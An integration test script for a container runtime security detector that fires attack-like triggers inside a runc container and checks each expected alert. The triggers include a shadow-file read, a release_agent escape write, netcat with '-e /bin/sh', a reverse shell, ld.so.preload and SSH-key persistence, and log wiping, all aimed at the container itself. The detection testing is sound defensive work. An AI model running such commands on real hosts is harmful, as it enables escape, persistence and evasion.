#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The shipped rules against real actions inside a container: one runc
# container shaped like a Kubernetes pod (pod web-7d4, container nginx, a
# busybox root with bash, ssh and the trigger helper; the capabilities of
# a privileged workload: SYS_ADMIN, NET_ADMIN, NET_RAW, SYS_PTRACE, but
# not SYS_MODULE), started by a marked runc (login uid $RS_AUID, inherited
# by everything in the container). Its first process waits on a fifo, then
# runs the triggers back to back: sensitive reads, writes and renames in
# its /etc and /bin, a replaced `id`, namespaces, a module load the kernel
# refuses, ptrace, mounts, a release_agent write, a terminal shell, nested
# and server-spawned shells, ssh, /dev/shm and /tmp executions, netcat
# with -e, bash's /dev/tcp and a reverse shell to a listener in the
# container's own network namespace, a packet socket, persistence files,
# a password change, log and history removal, key searches and audit
# configuration. Every alert must name the rule, the process, the file or
# argument and the container (id, Kubernetes container name). The
# container and what runc leaves in the cgroup trees are removed at the
# end; nothing outside the container's root is touched.
set -u
. "${top_srcdir:-.}/tests/integration/daemon_lib.sh"
. "$SRC/tests/integration/cgroup_lib.sh"
. "$SRC/tests/integration/ruleset_lib.sh"

need_tools runc jq ldd bash
need_static_busybox
rs_setup rules-container "$@"

ROOT=$TMP/rootfs
rs_rootfs "$ROOT" || { fail "root file system"; exit 1; }
echo x >"$ROOT/tmp/junk"

cat >"$ROOT/ct-triggers.sh" <<'EOF'
cd /tmp
echo x >/tmp/junk
echo history >/root/.ash_history
# Sensitive read, writes and renames in /etc and the binary directories.
/bin/cat /etc/shadow >/dev/null
echo x >/etc/harrier-ct.conf
/bin/rm /etc/harrier-ct.conf
/bin/cp /bin/busybox /bin/harrier-ct
/bin/mv /bin/harrier-ct /bin/harrier-ct2
/bin/mkdir /bin/harrier-ct.d
/bin/rm /bin/id && /bin/cp /bin/busybox /bin/id
/bin/cp /bin/busybox /bin/.ls.new && /bin/mv /bin/.ls.new /bin/ls
/bin/chmod 600 /etc/shadow
/bin/ln -s /etc/shadow /tmp/sl && /bin/ln /etc/shadow /tmp/hl
/bin/cp /bin/busybox /tmp/suid && /bin/chmod 4755 /tmp/suid
/bin/harrier-trigger memfd-exec /bin/busybox true
# Namespaces, modules, ptrace, mounts, the release_agent escape.
/bin/harrier-trigger setns /proc/self/ns/uts
/bin/harrier-trigger unshare mnt
/bin/harrier-trigger module /etc/passwd
/bin/harrier-trigger module-unload harrier_test_no_such_module
/bin/harrier-trigger kexec
/bin/harrier-trigger ptrace-attach
/bin/harrier-trigger ptrace-traceme
/bin/harrier-trigger mount /mnt
/bin/mount -t tmpfs harrier-ct /mnt
# (a tmpfs over the container's own /sys/fs/cgroup: a privileged
# container with writable cgroup v1 hierarchies writes the real one)
/bin/mount -t tmpfs harrier-cg /sys/fs/cgroup && mkdir /sys/fs/cgroup/rdma &&
	echo 1 >/sys/fs/cgroup/rdma/release_agent
# Shells: with a terminal, nested, spawned by a server; ssh.
/bin/harrier-trigger pty /bin/sh -c 'exit 0'
/bin/sh -c 'exit 0'
/bin/nginx run /bin/sh -c 'exit 0'
/usr/bin/ssh -V 2>/dev/null
# Execution from /dev/shm and /tmp.
/bin/cp /bin/busybox /dev/shm/true && /dev/shm/true
/bin/cp /bin/busybox /tmp/true && /tmp/true
# Network: listeners on a non-loopback address of the container's own
# network namespace; a shell, a coreutils name and a reverse shell
# connect to them; netcat with -e; a packet socket.
/bin/ip link set lo up && /bin/ip addr add 192.0.2.1/32 dev lo
for p in 4444 4445 4446; do
	/bin/timeout 10 /bin/nc -l -p $p </dev/null >/dev/null 2>&1 &
done
sleep 0.3
/bin/bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444; exec 3>&-'
/bin/ln -s /bin/harrier-trigger /tmp/ls
/tmp/ls connect 192.0.2.1 4445
/bin/harrier-trigger revshell 192.0.2.1 4446 /bin/sh -c 'exit 0' </dev/null
/bin/nc -w 1 -e /bin/sh 192.0.2.1 9 2>/dev/null
/bin/harrier-trigger packet-socket
# Persistence and evasion.
echo >/etc/crontab
mkdir -p /etc/systemd/system && echo >/etc/systemd/system/harrier-ct.service
echo >>/root/.profile
echo >/etc/ld.so.preload
echo >/etc/.preload.new && /bin/mv /etc/.preload.new /etc/ld.so.preload
mkdir -p /root/.ssh && echo >>/root/.ssh/authorized_keys
/bin/passwd -l root
mkdir -p /var/log && echo x >>/var/log/app.log && : >/var/log/app.log
/bin/rm /root/.ash_history
/bin/shred /tmp/junk
/bin/grep -r "BEGIN PRIVATE" /etc >/dev/null
/bin/find /etc -name id_rsa
mkdir -p /etc/audit && echo >/etc/audit/auditd.conf
wait
# What a second round needs to find as the first did.
/bin/rm -rf /tmp/sl /tmp/hl /tmp/suid /bin/harrier-ct2 /bin/harrier-ct.d \
	/etc/audit /etc/systemd /root/.ssh /var/log
/bin/umount /sys/fs/cgroup /mnt 2>/dev/null
EOF

runc_lock
ID=$(hex 32)
SHORT=$(echo "$ID" | cut -c1-12)
rs_bundle "$TMP/b" "$ROOT" "$ID" \
	'while :; do read x </tmp/go || continue; sh /ct-triggers.sh >/tmp/ct-triggers.log 2>&1; touch /tmp/ct-done; done' ||
	{ fail "bundle"; exit 1; }
RUNC_IDS="$RUNC_IDS $ID"
CGMARKS="$CGMARKS $ID"
if ! rs_mark runc run -d --bundle "$TMP/b" --pid-file "$TMP/$ID.pid" "$ID" \
	</dev/null >"$TMP/$ID.log" 2>&1; then
	cat "$TMP/$ID.log"
	fail "runc run"
	exit 1
fi

ct_done() { [ -e "$ROOT/tmp/ct-done" ]; }
fire() {
	t0=$(now_ms)
	rm -f "$ROOT/tmp/ct-done"
	# (a signal may interrupt the container shell's open of the fifo: it
	# opens it again; a container that is gone never reads it)
	timeout 10 sh -c 'echo go >"$1"' go "$ROOT/tmp/go" ||
		fail "the container does not read its fifo"
	wait_for 60000 ct_done || fail "the container's triggers did not finish"
	echo "triggers fired in $(($(now_ms) - t0)) ms"
}
fire

C="container.id=$SHORT"
K="container.name=nginx"
U="user.loginuid=$RS_AUID"
expect "Read sensitive file untrusted" fd.name=/etc/shadow proc.name=cat "$C" "$K" "$U"
expect "Write below etc" fd.name=/etc/harrier-ct.conf proc.name=sh "$C" "$K" "$U"
expect "Rename, remove or mkdir below etc or root" fd.name=/etc/harrier-ct.conf proc.name=rm "$C" "$U"
expect "Write below binary dir" fd.name=/bin/harrier-ct proc.name=cp "$C" "$U"
expect "Modify binary dirs" fd.name=/bin/harrier-ct evt.arg.newpath=/bin/harrier-ct2 proc.name=mv "$C" "$U"
expect "Mkdir binary dirs" fd.name=/bin/harrier-ct.d proc.name=mkdir "$C" "$U"
expect "Modify system utility binary" fd.name=/bin/id proc.name=rm "$C" "$U"
expect "Modify system utility binary" fd.name=/bin/id proc.name=cp "$C" "$U"
expect "Modify system utility binary" evt.arg.newpath=/bin/ls proc.name=mv "$C" "$U"
expect "Chmod or chown of sensitive file or binary" fd.name=/etc/shadow proc.name=chmod "$C" "$U"
expect "Change thread namespace in container" proc.name=harrier-trigger "$C" "$K" "$U"
expect_none "Change thread namespace" "$U"
expect "Change namespace privileges via unshare" proc.name=harrier-trigger evt.arg.flags=CLONE_NEWNS "$C" "$U"
expect "Create Symlink Over Sensitive Files" evt.arg.target=/etc/shadow evt.arg.linkpath=/tmp/sl proc.name=ln "$C" "$U"
expect "Create Hardlink Over Sensitive Files" fd.name=/etc/shadow evt.arg.newpath=/tmp/hl proc.name=ln "$C" "$U"
expect "Set Setuid or Setgid bit" fd.name=/tmp/suid evt.arg.mode~S_ISUID proc.name=chmod "$C" "$U"
expect "Fileless execution via memfd_create" "proc.exepath~/memfd:harrier-test" "$C" "$K" "$U"
# A connect's fd.name is "cip:cport->sip:sport" when harrierd read the
# local end from /proc while the process still lived, else "sip:sport":
# either holds the server's end.
expect "Redirect STDOUT/STDIN to Network Connection in Container" proc.name=harrier-trigger fd.name~192.0.2.1:4446 evt.rawres=0 "$C" "$K" "$U"
expect "Redirect STDOUT/STDIN to Network Connection in Container" proc.name=harrier-trigger evt.rawres=1 "$C" "$U"
expect_none "Fileless execution via memfd_create" proc.name~runc
expect "Linux Kernel Module Injection Detected" evt.type=finit_module proc.name=harrier-trigger "$C" "$K" "$U"
expect "Linux Kernel Module Injection Detected" evt.type=init_module proc.name=harrier-trigger "$C" "$U"
expect "Unload kernel module" evt.type=delete_module proc.name=harrier-trigger "$C" "$U"
expect "Load new kernel with kexec" evt.type=kexec_file_load proc.name=harrier-trigger "$C" "$U"
expect "PTRACE attached to process" evt.arg.request=PTRACE_ATTACH proc.name=harrier-trigger "$C" "$U"
expect "PTRACE anti-debug attempt" proc.name=harrier-trigger "$C" "$U"
expect "Mount in container" proc.name=harrier-trigger fd.name=/mnt "$C" "$K" "$U"
expect "Mount in container" proc.name=mount fd.name=/mnt "$C" "$U"
expect "Detect release_agent File Container Escapes" fd.name=/sys/fs/cgroup/rdma/release_agent proc.name=sh "$C" "$K" "$U"
expect "Mount in container" proc.name=mount fd.name=/sys/fs/cgroup "$C" "$U"
expect "Terminal shell in container" proc.name=sh proc.tty~pts "$C" k8s.pod.name=web-7d4 k8s.ns.name=prod "$U"
expect "Shell spawned in container" proc.name=sh "proc.cmdline=sh -c exit 0" "$C" "$U"
expect "Run shell untrusted" proc.name=sh proc.pname=nginx "$C" "$U"
expect "Launch SSH binary in container" proc.name=ssh "$C" "$K" "$U"
expect "Execution from /dev/shm" fd.name=/dev/shm/true "$C" "$U"
expect "Execution from /tmp" fd.name=/tmp/true "$C" "$U"
expect "Outbound connection from shell" proc.name=bash fd.sip=192.0.2.1 fd.rport=4444 "$C" "$K" "$U"
expect "System procs network activity" proc.name=ls fd.name~192.0.2.1:4445 fd.rport=4445 "$C" "$U"
expect "Netcat Remote Code Execution in Container" proc.name=nc "proc.cmdline~-e /bin/sh" "$C" "$K" "$U"
expect "Launch Suspicious Network Tool in Container" proc.name=nc "$C" "$U"
expect "Packet socket created in container" proc.name=harrier-trigger evt.res=SUCCESS "$C" "$K" "$U"
expect "Schedule Cron Jobs" fd.name=/etc/crontab proc.name=sh "$C" "$U"
expect "Modify systemd unit file" fd.name=/etc/systemd/system/harrier-ct.service "$C" "$U"
expect "Modify Shell Configuration File" fd.name=/root/.profile proc.name=sh "$C" "$U"
expect "Modify ld.so.preload" fd.name=/etc/ld.so.preload proc.name=sh "$C" "$K" "$U"
expect "Modify ld.so.preload" evt.arg.newpath=/etc/ld.so.preload proc.name=mv "$C" "$U"
expect "Adding ssh keys to authorized_keys" fd.name=/root/.ssh/authorized_keys "$C" "$U"
expect "User mgmt binaries" proc.name=passwd "proc.cmdline=passwd -l root" "$C" "$U"
expect "Clear Log Activities" fd.name=/var/log/app.log proc.name=sh "$C" "$U"
expect "Delete or rename shell history" fd.name=/root/.ash_history proc.name=rm "$C" "$U"
expect "Remove Bulk Data from Disk" proc.name=shred "$C" "$U"
expect "Search Private Keys or Passwords" proc.name=grep "$C" "$U"
expect "Search Private Keys or Passwords" proc.name=find "$C" "$U"
expect "Modify audit configuration" fd.name=/etc/audit/auditd.conf proc.name=sh "$C" "$U"
# The host-only rules stay quiet for the container's processes, and runc
# setting the container up (mounts, namespaces, its /dev) raises nothing.
expect_none "Load kernel module" "$U"
expect_none "Packet socket created on host" "$U"
expect_none "Netcat/Socat Remote Code Execution on Host" "$U"
expect_none "Mount in container" proc.name~runc
expect_none "Change thread namespace in container" proc.name~runc
expect_none "Change namespace privileges via unshare" proc.name~runc
expect_none "Chmod or chown of sensitive file or binary" proc.name~runc
t0=$(now_ms)
rs_check
echo "alerts checked in $(($(now_ms) - t0)) ms"

if [ "$FAILED" != 0 ]; then
	echo "--- container triggers"
	cat "$ROOT/tmp/ct-triggers.log"
	echo "--- harrierd"
	cat "$TMP/rules.err"
fi
# The same triggers without push-down: the same alerts.
rs_superset fire
stop_harrierd
[ -z "${HRC:-}" ] || [ "$HRC" = 0 ] || fail "harrierd exit status $HRC"

trap - EXIT
test_cleanup
check_restored "end"
[ -d "/run/runc/$ID" ] && fail "runc state left for $ID"
[ "$FAILED" = 0 ] || exit 1
echo "PASS"
exit 0
